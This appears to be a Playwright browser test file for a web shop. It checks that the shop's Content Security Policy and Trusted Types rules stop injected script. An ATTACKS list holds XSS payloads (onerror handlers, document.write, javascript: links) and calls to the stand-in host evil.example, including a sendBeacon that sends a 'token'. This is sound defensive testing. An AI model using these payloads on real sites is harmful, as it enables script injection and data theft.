import { readFileSync } from 'node:fs';
import { chromium } from '@playwright/test';
import { linesOf } from './buying.ts';
import { expect, ShopUnderTest, test } from './fixtures.ts';

/**
 * The document's policy (src/boot/document-policy.ts) in the browser. That the shop itself never breaks it is part of
 * every browser test: a violation is an error on the console (fixtures.ts), of which the last test here makes sure.
 */

test('D2: the default build reaches an API on localhost, on 127.0.0.1, and from [::1]', async () => {
  const world = await ShopUnderTest.start({ apart: true });
  const { port } = new URL(world.url);
  const toApi = world.browserArguments[0]?.split(' ').at(-1);
  const browser = await chromium.launch({
    ...(process.env.CHROMIUM_PATH && { executablePath: process.env.CHROMIUM_PATH }),
    args: ['--no-sandbox', `--host-resolver-rules=MAP localhost:8044 ${toApi}, MAP 127.0.0.1:8044 ${toApi}`],
  });
  try {
    const [line] = await linesOf(world, [1]);
    for (const [host, moved] of [
      ['localhost', 'localhost'],
      ['127.0.0.1', '127.0.0.1'],
      ['[::1]', 'localhost'],
    ]) {
      const page = await browser.newPage();
      await page.goto(`http://${host}:${port}/products?page=2`);
      await expect(page.getByRole('article').first()).toBeVisible();
      await expect(page).toHaveURL(`http://${moved}:${port}/products?page=2`);
      await page.goto(`http://${host}:${port}/product/${line?.id}`);
      await expect(page.getByRole('heading', { level: 1 })).toHaveText(line?.name ?? '');
      await expect(page).toHaveURL(`http://${moved}:${port}/product/${line?.id}`);
      await page.close();
    }
  } finally {
    await browser.close();
    await world.end();
  }
});

test('a host without headers: the shop shows nothing inside a page of another site', async ({
  page,
  shop,
}) => {
  const body = readFileSync('dist/index.html', 'utf8');
  await page.route(`${shop.url}/cart`, (route) => route.fulfill({ contentType: 'text/html', body }));
  await page.goto('/cart');
  await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
  await page.route('http://elsewhere.localhost/', (route) =>
    route.fulfill({ contentType: 'text/html', body: `<iframe src="${shop.url}/cart"></iframe>` }),
  );
  await page.goto('http://elsewhere.localhost/', { waitUntil: 'load' });
  const frame = page.frameLocator('iframe');
  // The shop's own document, not the browser's page for one that may not be framed.
  await expect(frame.locator('head > script[type="module"][src^="/assets/"]')).toHaveCount(1);
  await expect(frame.locator('#root')).toHaveCount(0);
  await expect(frame.locator('body')).toHaveText('', { useInnerText: true });
});

interface Attack {
  name: string;
  /** The directive that stops it. */
  directive: string;
  run: () => unknown;
}

const ATTACKS: Attack[] = [
  {
    name: 'markup with a handler',
    directive: 'require-trusted-types-for',
    run: () => {
      document.body.innerHTML += '<img src="/none" onerror="window.executed = 1">';
    },
  },
  {
    name: 'markup beside an element',
    directive: 'require-trusted-types-for',
    run: () =>
      document.body.insertAdjacentHTML('beforeend', '<img src="/none" onerror="window.executed = 1">'),
  },
  {
    name: 'markup of a parser',
    directive: 'require-trusted-types-for',
    run: () => new DOMParser().parseFromString('<b>x</b>', 'text/html'),
  },
  {
    name: 'a written document',
    directive: 'require-trusted-types-for',
    run: () => document.write('<script>window.executed = 1</script>'),
  },
  {
    name: 'a frame with its own document',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('iframe').srcdoc = '<script>parent.executed = 1</script>';
    },
  },
  {
    name: 'a script from elsewhere',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('script').src = 'https://evil.example/x.js';
    },
  },
  {
    name: 'a script of text',
    directive: 'require-trusted-types-for',
    run: () => {
      document.createElement('script').textContent = 'window.executed = 1';
    },
  },
  {
    name: 'a script of text nodes',
    directive: 'require-trusted-types-for',
    run: () => {
      const script = document.createElement('script');
      script.append('window.executed = 1');
      document.body.append(script);
    },
  },
  {
    name: 'a handler in an attribute',
    directive: 'require-trusted-types-for',
    run: () => document.body.setAttribute('onclick', 'window.executed = 1'),
  },
  {
    name: 'a worker',
    directive: 'require-trusted-types-for',
    run: () => new Worker('data:text/javascript,postMessage(1)'),
  },
  {
    name: 'a default policy',
    directive: 'trusted-types',
    run: () =>
      Object(Reflect.get(window, 'trustedTypes')).createPolicy('default', {
        createHTML: (html: string) => html,
      }),
  },
  {
    name: 'a module from elsewhere',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('link');
      document.head.append(Object.assign(link, { rel: 'modulepreload', href: 'https://evil.example/x.js' }));
    },
  },
  {
    name: 'a link that runs script',
    directive: 'script-src-elem',
    run: () => {
      const link = document.createElement('a');
      link.href = 'javascript:window.executed = 1';
      document.body.append(link);
      link.click();
    },
  },
  {
    name: 'a style attribute',
    directive: 'style-src-attr',
    run: () => document.body.setAttribute('style', 'background: url(https://evil.example/x)'),
  },
  {
    name: 'a sheet of style',
    directive: 'style-src-elem',
    run: () => {
      const style = document.createElement('style');
      style.textContent = 'body { background: url(https://evil.example/x) }';
      document.head.append(style);
    },
  },
  {
    name: 'another base',
    directive: 'base-uri',
    run: () => {
      document.head.append(Object.assign(document.createElement('base'), { href: 'https://evil.example/' }));
    },
  },
  {
    name: 'a request to elsewhere',
    directive: 'connect-src',
    run: () => fetch('https://evil.example/x').catch(() => {}),
  },
  {
    name: 'a beacon to elsewhere',
    directive: 'connect-src',
    run: () => navigator.sendBeacon('https://evil.example/x', 'token'),
  },
  {
    name: 'a frame of elsewhere',
    directive: 'frame-src',
    run: () => {
      document.body.append(Object.assign(document.createElement('iframe'), { src: 'https://evil.example/' }));
    },
  },
];

test.describe('faults M14: an attack that got past the shop is stopped by the policy', () => {
  test('each of them, on a page of its own, with an error on the console', async ({ page, problems }) => {
    const sent: string[] = [];
    page.on('requestfinished', (request) => sent.push(request.url()));
    page.on('requestfailed', (request) => {
      if (request.failure()?.errorText !== 'csp') sent.push(request.url());
    });
    // The document has the policy: the attacks need nothing of the shop.
    await page.route('**/assets/**', (route) => route.abort());
    for (const { name, directive, run } of ATTACKS) {
      await page.goto('/contact', { waitUntil: 'domcontentloaded' });
      const broken = page.evaluate(
        () =>
          new Promise<string>((resolve) => {
            const note = (event: SecurityPolicyViolationEvent) => resolve(event.effectiveDirective);
            document.addEventListener('securitypolicyviolation', note, { once: true });
          }),
      );
      await page.evaluate(run).catch(() => {});
      expect(await broken, name).toBe(directive);
      expect(await page.evaluate(() => Reflect.get(window, 'executed')), name).toBeUndefined();
      await expect.poll(() => problems.length, { message: name }).toBeGreaterThan(0);
      problems.length = 0;
    }
    expect(sent.filter((url) => url.includes('evil'))).toEqual([]);
  });
});
